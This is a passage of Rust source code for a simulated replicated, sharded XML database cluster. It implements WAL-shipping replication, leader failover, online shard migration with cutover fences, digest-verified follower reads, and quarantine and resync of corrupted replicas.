            .unwrap_or(0);
        let body = req.body.as_deref().unwrap_or("");
        let acked = match body.split_at(usize::from(!body.is_empty())) {
            ("F", hex) => n.accept_frames(term, &from_hex(hex)),
            ("S", hex) => n.install_snapshot(term, &from_hex(hex)).map(|a| (a, false)),
            _ => {
                return Response {
                    status: 400,
                    body: "<error>bad replication payload</error>".to_string(),
                    content_type: "application/xml".to_string(),
                }
            }
        };
        match acked {
            Some((seq, false)) => Response::ok(format!("<ack seq=\"{seq}\"/>")),
            // foreign document in the batch: a non-200 reply makes the
            // leader count a failure (backoff, breaker) instead of
            // hot-looping the identical shipment on every tick
            Some((seq, true)) => Response {
                status: 421,
                body: format!("<nack reason=\"ownership\" seq=\"{seq}\"/>"),
                content_type: "application/xml".to_string(),
            },
            None => Response {
                status: 409,
                body: format!("<nack term=\"{}\"/>", n.term),
                content_type: "application/xml".to_string(),
            },
        }
    }
}

// ---------------------------------------------------------------------
// Cluster plumbing
// ---------------------------------------------------------------------

/// Read-pool standing of a follower seat — the same trip/cool-off/probe
/// shape as `xqib_browser::quarantine`, driven by the scrubber instead of
/// listener failures.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SeatHealth {
    /// In the read pool; digests clean as far as the scrubber knows.
    Healthy,
    /// Out of the read pool while a repair is in flight; stays out at
    /// least until the deadline even if it catches up sooner.
    Quarantined { until: u64 },
    /// Cool-off served; readmission waits on the scrubber verifying the
    /// seat is caught up with matching digests.
    Probation,
}

/// One node slot in a shard: a stable host name and disk, plus the
/// leader-side link state used while the seat is a follower.
struct Seat {
    host: String,
    disk: VirtualDisk,
    /// `Some` while this seat is a follower; `None` while it's the leader.
    replica: Rc<RefCell<Option<ReplicaNode>>>,
    /// Leader's knowledge of this follower's durable position — learned
    /// exclusively from ack replies, never by peeking.
    acked: u64,
    /// Highest frame seq ever put on the wire to this seat, counted after
    /// in-flight truncation; frames at or below it are retries when
    /// re-shipped.
    shipped_top: u64,
    attempt: u32,
    next_send_at: u64,
    /// Ship a term-stamped snapshot before any frames (new-term reset).
    force_snapshot: bool,
    breaker: CircuitBreaker,
    rstats: RecoveryStats,
    /// Scrubber-managed read-pool standing.
    health: SeatHealth,
}

/// An update applied on the leader but not yet covered by the ack rule.
struct PendingUpdate {
    id: u64,
    seq: u64,
    arrival: u64,
    url: String,
    response: ServerResponse,
}

struct Shard {
    term: u64,
    leader: Option<AppServer>,
    leader_seat: usize,
    seats: Vec<Seat>,
    pending: VecDeque<PendingUpdate>,
    leaderless_since: Option<u64>,
    next_probe_at: u64,
    /// Probe answers `(term, acked)` gathered during the current failover.
    probed: Vec<Option<(u64, u64)>>,
    /// Decommission in progress: out of the ring, still serving its homed
    /// documents until each one's migration cuts over.
    draining: bool,
    /// Fully drained and shut down; refuses everything with 421.
    retired: bool,
}

/// How a cluster request ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ClusterOutcome {
    /// Served by the shard leader (any class, any status).
    Served,
    /// Render read served by an in-sync follower.
    FollowerRead,
    /// Render read served stale by a follower during a blackout.
    DegradedRead,
    /// Update durably acked per the replication ack rule.
    AckedUpdate,
    /// Update applied on the leader but not ack-covered in time.
    AckTimeout,
    /// Update applied on a leader that crashed before the ack rule held;
    /// the promoted leader does not have it.
    LostInFailover,
    /// No leader and no degraded path could serve it.
    NoLeader,
    /// The target shard does not own the document.
    Misrouted,
}

/// A finished cluster request.
#[derive(Debug, Clone, PartialEq)]
pub struct ClusterCompletion {
    pub id: u64,
    pub shard: usize,
    pub class: Class,
    pub url: String,
    pub arrival: u64,
    pub finished: u64,
    pub outcome: ClusterOutcome,
    pub response: ServerResponse,
}

/// What `submit` produced: an immediate completion, or a pending update id
/// whose completion a later [`Cluster::advance`] will emit.
#[derive(Debug)]
pub enum Submitted {
    Done(Box<ClusterCompletion>),
    Pending(u64),
}

/// The replicated tier. See the module docs for the protocol.
pub struct Cluster {
    cfg: ClusterConfig,
    topology: Topology,
    /// Seed of the currently installed ring; [`Cluster::rebalance`] folds
    /// a salt into it.
    ring_seed: u64,
    net: VirtualNetwork,
    shards: Vec<Shard>,
    stats: Rc<RefCell<ReplicationStats>>,
    istats: IntegrityStats,
    rstats: ReshardStats,
    migrations: Vec<Migration>,
    topo_schedule: Vec<(u64, TopologyChange)>,
    crashes: Vec<(u64, usize)>,
    next_id: u64,
    read_rr: u64,
    send_seq: u64,
    next_scrub_at: u64,
}

impl Cluster {
    pub fn new(cfg: ClusterConfig) -> Cluster {
        let nshards = cfg.shards.max(1);
        let topology = Topology::new(Router::new(nshards, cfg.seed));
        let stats = Rc::new(RefCell::new(ReplicationStats::default()));
        let mut net = VirtualNetwork::new();
        let mut shards = Vec::with_capacity(nshards);
        for s in 0..nshards {
            shards.push(Cluster::spawn_shard(&cfg, &mut net, &topology, &stats, s));
        }
        Cluster {
            ring_seed: cfg.seed,
            cfg,
            topology,
            net,
            shards,
            stats,
            istats: IntegrityStats::default(),
            rstats: ReshardStats::default(),
            migrations: Vec::new(),
            topo_schedule: Vec::new(),
            crashes: Vec::new(),
            next_id: 0,
            read_rr: 0,
            send_seq: 0,
            next_scrub_at: 0,
        }
    }

    /// Builds one shard's seats (leader + followers) and wires its hosts
    /// into the network. Associated so [`Cluster::add_shard`] can call it
    /// with disjoint field borrows.
    fn spawn_shard(
        cfg: &ClusterConfig,
        net: &mut VirtualNetwork,
        topology: &Topology,
        stats: &Rc<RefCell<ReplicationStats>>,
        s: usize,
    ) -> Shard {
        let mut seats = Vec::with_capacity(cfg.followers + 1);
        for slot in 0..=cfg.followers {
            let host = format!("s{s}r{slot}.xqib");
            let disk = match &cfg.disk_fault {
                Some(plan) => {
                    let mut plan = plan.clone();
                    plan.seed = mix64(cfg.seed ^ 0xd15c ^ ((s as u64) << 32) ^ slot as u64);
                    VirtualDisk::with_plan(plan)
                }
                None => VirtualDisk::new(),
            };
            let replica: Rc<RefCell<Option<ReplicaNode>>> = Rc::new(RefCell::new(None));
            if slot != 0 {
                *replica.borrow_mut() = Some(ReplicaNode::fresh(
                    s,
                    disk.clone(),
                    topology.clone(),
                    stats.clone(),
                    cfg.follower_durability,
                ));
                if let Some(plan) = &cfg.repl_fault {
                    let mut plan = plan.clone();
                    plan.seed = mix64(cfg.seed ^ ((s as u64) << 32) ^ slot as u64);
                    net.set_fault_plan(&host, plan);
                }
            }
            let handler_node = replica.clone();
            net.register(
                &format!("http://{host}/"),
                cfg.link_latency_ms,
                move |req| ReplicaNode::handle(&handler_node, req),
            );
            seats.push(Seat {
                host,
                disk,
                replica,
                acked: 0,
                shipped_top: 0,
                attempt: 0,
                next_send_at: 0,
                force_snapshot: false,
                breaker: CircuitBreaker::new(cfg.breaker_failures, cfg.breaker_open_ms),
                rstats: RecoveryStats::default(),
                health: SeatHealth::Healthy,
            });
        }
        let db = XmlDb::durable(seats[0].disk.clone(), cfg.durability);
        Shard {
            term: 1,
            leader: Some(AppServer::from_db(db)),
            leader_seat: 0,
            seats,
            pending: VecDeque::new(),
            leaderless_since: None,
            next_probe_at: 0,
            probed: vec![None; cfg.followers + 1],
            draining: false,
            retired: false,
        }
    }

    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    pub fn owner(&self, uri: &str) -> usize {
        self.topology.owner(uri)
    }

    /// Current topology epoch; bumped by every ring install.
    pub fn epoch(&self) -> TopologyEpoch {
        self.topology.epoch()
    }

    /// Cumulative resharding counters.
    pub fn reshard_stats(&self) -> ReshardStats {
        self.rstats.clone()
    }

    /// Document migrations currently in flight.
    pub fn migrations_in_flight(&self) -> usize {
        self.migrations.len()
    }

    /// Whether a shard has been decommissioned, drained and shut down.
    pub fn is_retired(&self, shard: usize) -> bool {
        self.shards.get(shard).is_some_and(|sh| sh.retired)
    }

    /// Whether a shard is draining toward retirement.
    pub fn is_draining(&self, shard: usize) -> bool {
        self.shards.get(shard).is_some_and(|sh| sh.draining)
    }

    /// Schedules a topology change; [`advance`](Self::advance) applies it.
    pub fn schedule_topology(&mut self, at: u64, change: TopologyChange) {
        self.topo_schedule.push((at, change));
        self.topo_schedule.sort_by_key(|(t, _)| *t);
    }

    pub fn term(&self, shard: usize) -> u64 {
        self.shards[shard].term
    }

    pub fn leader_seat(&self, shard: usize) -> usize {
        self.shards[shard].leader_seat
    }

    pub fn has_leader(&self, shard: usize) -> bool {
        self.shards[shard].leader.is_some()
    }

    pub fn stats(&self) -> ReplicationStats {
        self.stats.borrow().clone()
    }

    /// Cluster-wide integrity counters; decay sweeps and rotted sectors
    /// are summed live from every seat disk's own stats.
    pub fn integrity_stats(&self) -> IntegrityStats {
        let mut st = self.istats.clone();
        for sh in &self.shards {
            for seat in &sh.seats {
                let ds = seat.disk.stats();
                st.decay_sweeps += ds.decay_sweeps;
                st.sectors_decayed += ds.sectors_decayed;
            }
        }
        st
    }

    /// Leader committed sequence, `None` during a blackout.
    pub fn leader_committed(&self, shard: usize) -> Option<u64> {
        self.shards[shard]
            .leader
            .as_ref()
            .map(|l| l.db.committed_seq())
    }

    /// Per-follower lag (leader committed − follower acked), leader's view.
    pub fn replica_lag(&self, shard: usize) -> Vec<u64> {
        let sh = &self.shards[shard];
        let committed = sh
            .leader
            .as_ref()
            .map(|l| l.db.committed_seq())
            .unwrap_or(0);
        sh.seats
            .iter()
            .enumerate()
            .filter(|(i, seat)| *i != sh.leader_seat && seat.replica.borrow().is_some())
            .map(|(_, seat)| committed.saturating_sub(seat.acked))
            .collect()
    }

    /// Serialized document from the owning shard's leader.
    pub fn serialize(&self, uri: &str) -> Option<String> {
        let shard = &self.shards[self.topology.owner(uri)];
        shard.leader.as_ref().and_then(|l| l.db.serialize(uri))
    }

    /// True when the owning leader's copy of `uri` contains `needle`.
    pub fn contains(&self, uri: &str, needle: &str) -> bool {
        self.serialize(uri).is_some_and(|xml| xml.contains(needle))
    }

    /// Loads a document into its owning shard and pins its home there;
    /// returns the shard index.
    pub fn load(&mut self, uri: &str, xml: &str) -> Option<usize> {
        let s = self.topology.owner(uri);
        let leader = self.shards[s].leader.as_mut()?;
        leader.db.load(uri, xml).ok()?;
        let _ = leader.db.commit();
        leader.refresh_snapshots();
        self.topology.note_home(uri, s);
        Some(s)
    }

    /// Schedules a leader crash; [`advance`](Self::advance) executes it.
    pub fn crash_leader_at(&mut self, at: u64, shard: usize) {
        self.crashes.push((at, shard));
        self.crashes.sort_unstable();
    }

    /// Crashes the shard's leader now: power-loss on its disk (torn
    /// unsynced tail), leadership vacated.
    pub fn crash_leader(&mut self, shard: usize, now: u64) {
        let sh = &mut self.shards[shard];
        if sh.leader.take().is_none() {
            return;
        }
        sh.seats[sh.leader_seat].disk.crash();
        sh.leaderless_since = Some(now);
        sh.next_probe_at = now + self.cfg.failover_detect_ms;
        sh.probed = vec![None; sh.seats.len()];
    }

    /// Partitions one follower link for `[from, to)` virtual ms.
    pub fn partition(&mut self, shard: usize, slot: usize, from: u64, to: u64) {
        let host = self.shards[shard].seats[slot].host.clone();
        let mut plan = self
            .cfg
            .repl_fault
            .clone()
            .unwrap_or_else(|| FaultPlan::seeded(0));
        plan.seed = mix64(self.cfg.seed ^ ((shard as u64) << 32) ^ slot as u64);
        plan.flaps.push((from, to));
        self.net.set_fault_plan(&host, plan);
    }

    // -----------------------------------------------------------------
    // Online membership & resharding
    // -----------------------------------------------------------------

    /// Grows the cluster by one fresh shard (next free id), installs a
    /// ring that includes it, and plans migrations for every document the
    /// new ring claims. Returns the new shard's id.
    pub fn add_shard(&mut self, now: u64) -> usize {
        let s = self.shards.len();
        let shard = Cluster::spawn_shard(&self.cfg, &mut self.net, &self.topology, &self.stats, s);
        self.shards.push(shard);
        let mut members = self.topology.members();
        members.push(s);
        self.install_ring(&members, now);
        s
    }

    /// Starts decommissioning a shard: it leaves the ring, every document
    /// homed on it is queued for migration, and once drained its seats are
    /// retired. Returns false if the shard cannot be decommissioned (bad
    /// id, already draining/retired, or last member standing).
    pub fn decommission_shard(&mut self, s: usize, now: u64) -> bool {
        let Some(sh) = self.shards.get(s) else {
            return false;
        };
        if sh.draining || sh.retired {
            return false;
        }
        let members: Vec<usize> = self
            .topology
            .members()
            .into_iter()
            .filter(|&m| m != s)
            .collect();
        if members.is_empty() {
            return false;
        }
        self.shards[s].draining = true;
        self.install_ring(&members, now);
        true
    }

    /// Reseeds the ring over the same members, moving a salted subset of
    /// keys — relief for a hot shard without changing membership.
    pub fn rebalance(&mut self, salt: u64, now: u64) {
        self.ring_seed = mix64(self.ring_seed ^ 0x4eba ^ salt);
        let members = self.topology.members();
        self.install_ring(&members, now);
    }

    fn install_ring(&mut self, members: &[usize], now: u64) {
        self.topology
            .install(Router::with_members(members, self.ring_seed));
        self.rstats.epoch_bumps += 1;
        self.plan_migrations(now);
    }

    /// Applies a scheduled [`TopologyChange`].
    fn apply_change(&mut self, change: TopologyChange, now: u64) {
        match change {
            TopologyChange::AddShard => {
                self.add_shard(now);
            }
            TopologyChange::Decommission(s) => {
                self.decommission_shard(s, now);
            }
            TopologyChange::Rebalance(salt) => self.rebalance(salt, now),
        }
    }

    /// Reconciles the migration queue against the freshly installed ring:
    /// in-flight migrations whose destination the new ring disagrees with
    /// are aborted (their copies stay resident, harmlessly), and every
    /// homed document the ring wants elsewhere gets a migration.
    fn plan_migrations(&mut self, _now: u64) {
        let mut i = 0;
        while i < self.migrations.len() {
            let keep = {
                let m = &self.migrations[i];
                self.topology.ring_owner(&m.uri) == m.to
            };
            if keep {
                i += 1;
            } else {
                self.migrations.remove(i);
                self.rstats.migrations_aborted += 1;
            }
        }
        for (uri, home) in self.topology.homes() {
            if self.shards[home].retired {
                continue; // already moved; stale schedule entry
            }
            let want = self.topology.ring_owner(&uri);
            if want == home || self.shards[want].retired {
                continue;
            }
            if self.migrations.iter().any(|m| m.uri == uri) {
                continue;
            }
            self.migrations.push(Migration {
                uri,
                from: home,
                to: want,
                phase: MigrationPhase::Pending,
            });
        }
    }

    /// Drives every in-flight migration one step. Each step needs live
    /// leaders on both ends — a crash mid-migration simply pauses the
    /// document until failover supplies a leader again.
    fn drive_migrations(&mut self, now: u64) {
        let mut finished: Vec<usize> = Vec::new();
        for mi in 0..self.migrations.len() {
            let (uri, from, to, phase) = {
                let m = &self.migrations[mi];
                (m.uri.clone(), m.from, m.to, m.phase.clone())
            };
            match phase {
                MigrationPhase::Pending => {
                    // A home pin can outlive the bytes: a pre-migration
                    // failover may have promoted a follower that never
                    // replicated the document. Such a move is vacuous —
                    // nothing to copy, so the pin just flips at a fresh
                    // epoch and the ring converges instead of waiting
                    // forever for a snapshot that cannot exist.
                    let src_empty = match self.shards[from].leader.as_mut() {
                        Some(l) => {
                            let _ = l.db.commit();
                            l.db.serialize(&uri).is_none()
                        }
                        None => false,
                    };
                    if src_empty {
                        let _ = self.topology.cutover(&uri, to);
                        self.rstats.cutover_fences += 1;
                        self.rstats.migrations_completed += 1;
                        finished.push(mi);
                    } else if let Some(next) = self.start_copy(&uri, from, to, now) {
                        self.migrations[mi].phase = next;
                    }
                }
                MigrationPhase::Copying {
                    done_at,
                    base_seq,
                    copy_digest,
                } => {
                    if now < done_at {
                        continue;
                    }
                    match self.try_cutover(&uri, from, to, base_seq, copy_digest) {
                        CutoverStep::Done => finished.push(mi),
                        CutoverStep::Recopy => {
                            self.rstats.migrations_aborted += 1;
                            self.migrations[mi].phase = MigrationPhase::Pending;
                        }
                        CutoverStep::Wait => {}
                        CutoverStep::Forwarded {
                            base_seq,
                            copy_digest,
                            tail,
                        } => {
                            self.rstats.tail_frames_forwarded += tail;
                            // a forwarded tail is a fresh copy: it pays the
                            // same settle delay before the next fence check,
                            // so a hot document is re-checked per copy
                            // window, not per tick
                            self.migrations[mi].phase = MigrationPhase::Copying {
                                done_at: now + self.cfg.migration_copy_ms,
                                base_seq,
                                copy_digest,
                            };
                        }
                    }
                }
            }
        }
        for mi in finished.into_iter().rev() {
            self.migrations.remove(mi);
        }
        self.retire_drained(now);
    }

    /// Phase 1: snapshot the document at the source and install it at the
    /// destination leader (journaled like any load, so the destination's
    /// followers replicate it over the ordinary WAL-shipping path). The
    /// source keeps serving throughout.
    fn start_copy(
        &mut self,
        uri: &str,
        from: usize,
        to: usize,
        now: u64,
    ) -> Option<MigrationPhase> {
        if self.shards[from].leader.is_none() || self.shards[to].leader.is_none() {
            return None; // wait for failover to supply leaders
        }
        let (xml, base_seq) = {
            let leader = self.shards[from].leader.as_mut()?;
            let _ = leader.db.commit();
            let xml = leader.db.serialize(uri)?;
            (xml, leader.db.committed_seq())
        };
        let copy_digest = content_digest(uri, &xml);
        // the destination is a legitimate resident from here on, so its
        // followers accept the shipped frames
        self.topology.begin_copy(uri, to);
        {
            let leader = self.shards[to].leader.as_mut()?;
            leader.db.load(uri, &xml).ok()?;
            let _ = leader.db.commit();
            leader.refresh_snapshots();
        }
        self.rstats.migrations_started += 1;
        Some(MigrationPhase::Copying {
            done_at: now + self.cfg.migration_copy_ms,
            base_seq,
            copy_digest,
        })
    }

    /// Phase 2: integrity-check the destination copy, forward the WAL tail
    /// the source accepted during the window, and stamp the fence — the
    /// home pin flips to the destination in the same tick, so no two
    /// shards ever accept updates for the document in one epoch.
    fn try_cutover(
        &mut self,
        uri: &str,
        from: usize,
        to: usize,
        base_seq: u64,
        copy_digest: u64,
    ) -> CutoverStep {
        if self.shards[from].leader.is_none() || self.shards[to].leader.is_none() {
            return CutoverStep::Wait;
        }
        // Destination integrity cross-check (satellite: migration ×
        // scrubber). Latent rot on the destination mid-copy — WAL
        // mid-prefix damage, a digest mismatch against the journal-time
        // seal, or a divergent content digest — forces a clean re-copy,
        // never a rotten cutover. A torn WAL *tail* is the legal crash
        // shape and does not count.
        let rotten = {
            let Some(dest) = self.shards[to].leader.as_mut() else {
                return CutoverStep::Wait;
            };
            let wal_rot = matches!(
                dest.db.wal_integrity(),
                Some(IntegrityError::WalCorruption { .. })
            );
            let body_ok = matches!(dest.db.verified_serialize(uri), Ok(Some(_)));
            let digest_ok = dest.db.digest_of(uri) == Some(copy_digest);
            wal_rot || !body_ok || !digest_ok
        };
        if rotten {
            // supersede the damaged bytes from intact memory, then re-copy
            if let Some(dest) = self.shards[to].leader.as_mut() {
                let _ = dest.db.checkpoint();
            }
            return CutoverStep::Recopy;
        }
        // Forward the tail: updates the source accepted during the copy
        // window. The snapshot re-install is idempotent — the final bytes
        // land whether the tail was one record or a hundred — but it is
        // only the destination *leader's* state so far, so the fence must
        // wait until the forwarded copy has replicated there too.
        let src_view = {
            let Some(src) = self.shards[from].leader.as_mut() else {
                return CutoverStep::Wait;
            };
            let _ = src.db.commit();
            src.db.serialize(uri).map(|xml| {
                let tail = src.db.tail_records_touching(uri, base_seq);
                (xml, src.db.committed_seq(), tail)
            })
        };
        let Some((final_xml, new_base, tail)) = src_view else {
            // The source durably lost the document mid-copy — a failover
            // promoted a follower that never replicated it. There is no
            // tail left to forward; the destination's intact copy is the
            // best surviving state, so fence to it once it is durable
            // rather than waiting forever for bytes that no longer exist.
            if !self.replica_durable(to) {
                return CutoverStep::Wait;
            }
            let _ = self.topology.cutover(uri, to);
            self.rstats.docs_moved += 1;
            self.rstats.cutover_fences += 1;
            self.rstats.migrations_completed += 1;
            return CutoverStep::Done;
        };
        let final_digest = content_digest(uri, &final_xml);
        if final_digest != copy_digest {
            let Some(dest) = self.shards[to].leader.as_mut() else {
                return CutoverStep::Wait;
            };
            if dest.db.load(uri, &final_xml).is_err() {
                return CutoverStep::Recopy;
            }
            let _ = dest.db.commit();
            dest.refresh_snapshots();
            return CutoverStep::Forwarded {
                base_seq: new_base,
                copy_digest: final_digest,
                tail,
            };
        }
        // The copy must be as durable at the destination as an acked
        // update: the ack-rule quorum of destination followers has to hold
        // it before the source may stop being the home. Otherwise a
        // destination-leader crash right after cutover would promote a
        // follower that never saw the document — losing updates that were
        // acked (durably!) back on the source.
        if !self.replica_durable(to) {
            return CutoverStep::Wait;
        }
        // the fence: routing flips, the epoch bumps, and the source starts
        // refusing with 421 + the new epoch, atomically in this tick
        let _ = self.topology.cutover(uri, to);
        self.rstats.docs_moved += 1;
        self.rstats.cutover_fences += 1;
        self.rstats.migrations_completed += 1;
        CutoverStep::Done
    }

    /// Whether the shard's leader state is replicated per the ack rule:
    /// at least `ack_replicas` (clamped to the live follower count)
    /// followers have durably acked everything the leader committed.
    fn replica_durable(&self, s: usize) -> bool {
        let sh = &self.shards[s];
        let Some(leader) = sh.leader.as_ref() else {
            return false;
        };
        let committed = leader.db.committed_seq();
        let live: Vec<&Seat> = sh
            .seats
            .iter()
            .enumerate()
            .filter(|(i, seat)| *i != sh.leader_seat && seat.replica.borrow().is_some())
            .map(|(_, seat)| seat)
            .collect();
        let need = self.cfg.ack_replicas.min(live.len());
        live.iter().filter(|seat| seat.acked >= committed).count() >= need
    }

    /// Retires draining shards that no longer home any document and have
    /// no in-flight migration or pending update: leadership and every
    /// follower seat shut down; the shard refuses everything with 421.
    fn retire_drained(&mut self, _now: u64) {
        for s in 0..self.shards.len() {
            if !self.shards[s].draining || self.shards[s].retired {
                continue;
            }
            if self.topology.homes().iter().any(|(_, h)| *h == s) {
                continue;
            }
            if self.migrations.iter().any(|m| m.from == s) {
                continue;
            }
            if !self.shards[s].pending.is_empty() {
                continue;
            }
            let sh = &mut self.shards[s];
            sh.retired = true;
            sh.leader = None;
            sh.leaderless_since = None;
            for seat in &mut sh.seats {
                *seat.replica.borrow_mut() = None;
            }
            self.rstats.drains += 1;
        }
    }

    /// The document URI a request routes by — what clients should cache
    /// routing decisions against (and re-resolve on a 421).
    pub fn routing_uri(url: &str) -> String {
        let (path, query) = split_url(url);
        if let Some(uri) = param(&query, "uri") {
            return uri;
        }
        if path == "/query" || path == "/update" {
            if let Some(xq) = param(&query, "xq") {
                if let Some(uri) = first_doc_literal(&xq) {
                    return uri;
                }
            }
        }
        render::CORPUS_URI.to_string()
    }

    /// Routes a request to its owning shard and serves it.
    pub fn submit(&mut self, url: &str, now: u64) -> Submitted {
        let shard = self.topology.owner(&Self::routing_uri(url));
        self.serve_at(shard, url, now)
    }

    /// Serves a request on a specific shard, refusing documents the shard
    /// does not own or no longer serves (421 + the current epoch, so
    /// clients can re-resolve). `submit` always routes correctly; this is
    /// the enforcement point a stale client or migrated-away document hits.
    pub fn serve_at(&mut self, shard: usize, url: &str, now: u64) -> Submitted {
        let class = Class::of_url(url);
        let id = self.next_id;
        self.next_id += 1;
        let done = |response: ServerResponse, outcome: ClusterOutcome, finished: u64| {
            Submitted::Done(Box::new(ClusterCompletion {
                id,
                shard,
                class,
                url: url.to_string(),
                arrival: now,
                finished,
                outcome,
                response,
            }))
        };
        let (path, _) = split_url(url);
        if path == "/metrics" {
            let resp = self.metrics_response();
            return done(resp, ClusterOutcome::Served, now);
        }
        let uri = Self::routing_uri(url);
        let owner = self.topology.owner(&uri);
        if owner != shard || self.shards[shard].retired {
            self.stats.borrow_mut().ownership_rejections += 1;
            return done(
                ServerResponse::misrouted(shard, &uri, owner, self.topology.epoch()),
                ClusterOutcome::Misrouted,
                now,
            );
        }
        match class {
            Class::Update => self.serve_update(shard, url, id, now),
            Class::Query => match self.shards[shard].leader.as_mut() {
                Some(leader) => {
                    let resp = leader.handle(url);
                    done(resp, ClusterOutcome::Served, now)
                }
                None => done(no_leader_response(), ClusterOutcome::NoLeader, now),
            },
            Class::Render => self.serve_render(shard, url, &uri, id, now),
        }
    }

    fn serve_update(&mut self, shard: usize, url: &str, id: u64, now: u64) -> Submitted {
        let need = self.cfg.ack_replicas.min(self.cfg.followers);
        let sh = &mut self.shards[shard];
        let Some(leader) = sh.leader.as_mut() else {
            return Submitted::Done(Box::new(ClusterCompletion {
                id,
                shard,
                class: Class::Update,
                url: url.to_string(),
                arrival: now,
                finished: now,
                outcome: ClusterOutcome::NoLeader,
                response: no_leader_response(),
            }));
        };
        let response = leader.handle(url);
        if response.status != 200 {
            return Submitted::Done(Box::new(ClusterCompletion {
                id,
                shard,
                class: Class::Update,
                url: url.to_string(),
                arrival: now,
                finished: now,
                outcome: ClusterOutcome::Served,
                response,
            }));
        }
        let seq = leader.db.appended_seq();
        let _ = leader.db.commit();
        let committed = leader.db.committed_seq();
        let leader_seat = sh.leader_seat;
        let acks = sh
            .seats
            .iter()
            .enumerate()
            .filter(|(i, seat)| {
                *i != leader_seat && seat.replica.borrow().is_some() && seat.acked >= seq
            })
            .count();
        if committed >= seq && acks >= need {
            return Submitted::Done(Box::new(ClusterCompletion {
                id,
                shard,
                class: Class::Update,
                url: url.to_string(),
                arrival: now,
                finished: now,
                outcome: ClusterOutcome::AckedUpdate,
                response,
            }));
        }
        sh.pending.push_back(PendingUpdate {
            id,
            seq,
            arrival: now,
            url: url.to_string(),
            response,
        });
        Submitted::Pending(id)
    }

    fn serve_render(&mut self, shard: usize, url: &str, uri: &str, id: u64, now: u64) -> Submitted {
        let (path, _) = split_url(url);
        let done = |response: ServerResponse, outcome: ClusterOutcome| {
            Submitted::Done(Box::new(ClusterCompletion {
                id,
                shard,
                class: Class::Render,
                url: url.to_string(),
                arrival: now,
                finished: now,
                outcome,
                response,
            }))
        };
        let has_leader = self.shards[shard].leader.is_some();
        if has_leader {
            // bounded-staleness follower read for whole-document fetches
            if self.cfg.follower_reads && path == "/doc" {
                if let Some(resp) = self.follower_doc(shard, uri, false, now) {
                    return done(resp, ClusterOutcome::FollowerRead);
                }
            }
            let resp = match self.shards[shard].leader.as_mut() {
                Some(leader) => leader.handle(url),
                None => no_leader_response(),
            };
            return done(resp, ClusterOutcome::Served);
        }
        // Blackout: a stale whole-document read beats a 503 for the
        // render surface — same contract as the governor's degrade path.
        let stale_uri = if path == "/doc" {
            uri.to_string()
        } else {
            render::CORPUS_URI.to_string()
        };
        if self.topology.owner(&stale_uri) == shard {
            if let Some(resp) = self.follower_doc(shard, &stale_uri, true, now) {
                return done(
                    resp.with_header("X-XQIB-Degraded", "no-leader"),
                    ClusterOutcome::DegradedRead,
                );
            }
        }
        done(no_leader_response(), ClusterOutcome::NoLeader)
    }

    /// A `/doc` body served from a follower replica. Healthy path
    /// (`any_lag = false`): round-robin over *healthy* followers within
    /// `max_read_lag`, and the body's content digest is verified against
    /// the leader's recorded digest before it leaves the cluster — a
    /// mismatch quarantines the seat for resync and falls back to the
    /// leader. Blackout path (`any_lag = true`): the most caught-up
    /// non-quarantined follower, whatever its lag.
    fn follower_doc(
        &mut self,
        shard: usize,
        uri: &str,
        any_lag: bool,
        now: u64,
    ) -> Option<ServerResponse> {
        let sh = &self.shards[shard];
        let committed = sh.leader.as_ref().map(|l| l.db.committed_seq());
        let mut candidates: Vec<(usize, u64, u64)> = Vec::new(); // (seat, lag, applied)
        for (i, seat) in sh.seats.iter().enumerate() {
            if i == sh.leader_seat {
                continue;
            }
            let usable = if any_lag {
                !matches!(seat.health, SeatHealth::Quarantined { .. })
            } else {
                seat.health == SeatHealth::Healthy
            };
            if !usable {
                continue;
            }
            let guard = seat.replica.borrow();
            let Some(node) = guard.as_ref() else {
                continue;
            };
            let lag = committed.unwrap_or(node.applied).saturating_sub(seat.acked);
            if !any_lag && lag > self.cfg.max_read_lag {
                continue;
            }
            candidates.push((i, lag, node.applied));
        }
        if candidates.is_empty() {
            return None;
        }
        let (seat_idx, lag, applied) = if any_lag {
            // most caught-up wins; ties go to the lowest seat
            *candidates
                .iter()
                .max_by_key(|&&(i, _, applied)| (applied, usize::MAX - i))?
        } else {
            let pick = candidates[(self.read_rr as usize) % candidates.len()];
            self.read_rr += 1;
            pick
        };
        let (body, host, want) = {
            let sh = &self.shards[shard];
            let seat = &sh.seats[seat_idx];
            let guard = seat.replica.borrow();
            let body = guard.as_ref()?.serialize(uri)?;
            let want = sh.leader.as_ref().and_then(|l| l.db.digest_of(uri));
            (body, seat.host.clone(), want)
        };
        // End-to-end read verification: a caught-up follower's body must
        // hash to the digest the leader sealed at journal time. A lagged
        // follower is serving an older (but internally consistent)
        // version, which bounded staleness already permits — only an
        // in-sync body that hashes wrong is corruption.
        if let (Some(c), Some(want)) = (committed, want) {
            if applied >= c {
                if content_digest(uri, &body) != want {
                    self.istats.reads_refused += 1;
                    self.quarantine_and_resync(shard, seat_idx, now);
                    return None;
                }
                self.istats.reads_verified += 1;
            }
        }
        self.stats.borrow_mut().follower_reads += 1;
        Some(
            ServerResponse::new(200, body)
                .with_header("X-XQIB-Replica", &host)
                .with_header("X-XQIB-Replica-Lag", &lag.to_string()),
        )
    }

    /// Quarantines a follower seat over divergence and restarts it from
    /// nothing: files wiped, a fresh replica installed, and the leader
    /// forced to ship a full checkpoint snapshot (the ordinary straggler
    /// resync path). The seat re-enters the read pool only after the
    /// scrubber sees it caught up with matching digests.
    fn quarantine_and_resync(&mut self, s: usize, i: usize, now: u64) {
        let topology = self.topology.clone();
        let stats = self.stats.clone();
        let follower_cfg = self.cfg.follower_durability;
        let until = now + self.cfg.quarantine_ms;
        let seat = &mut self.shards[s].seats[i];
        for f in seat.disk.files() {
            seat.disk.delete(&f);
        }
        *seat.replica.borrow_mut() = Some(ReplicaNode::fresh(
            s,
            seat.disk.clone(),
            topology,
            stats,
            follower_cfg,
        ));
        seat.acked = 0;
        seat.shipped_top = 0;
        seat.attempt = 0;
        seat.force_snapshot = true;
        seat.next_send_at = now;
        seat.health = SeatHealth::Quarantined { until };
        self.istats.quarantines += 1;
        self.istats.repairs_started += 1;
    }

    /// One anti-entropy pass over every shard: probe the leader's own WAL
    /// and checkpoint slots, probe every follower's disk, cross-check
    /// replica digests against the leader's recorded digests, and drive
    /// the quarantine → repair → verified-readmission lifecycle.
    fn scrub(&mut self, now: u64) {
        self.istats.scrub_cycles += 1;
        for s in 0..self.shards.len() {
            if self.shards[s].retired {
                continue;
            }
            self.scrub_shard(s, now);
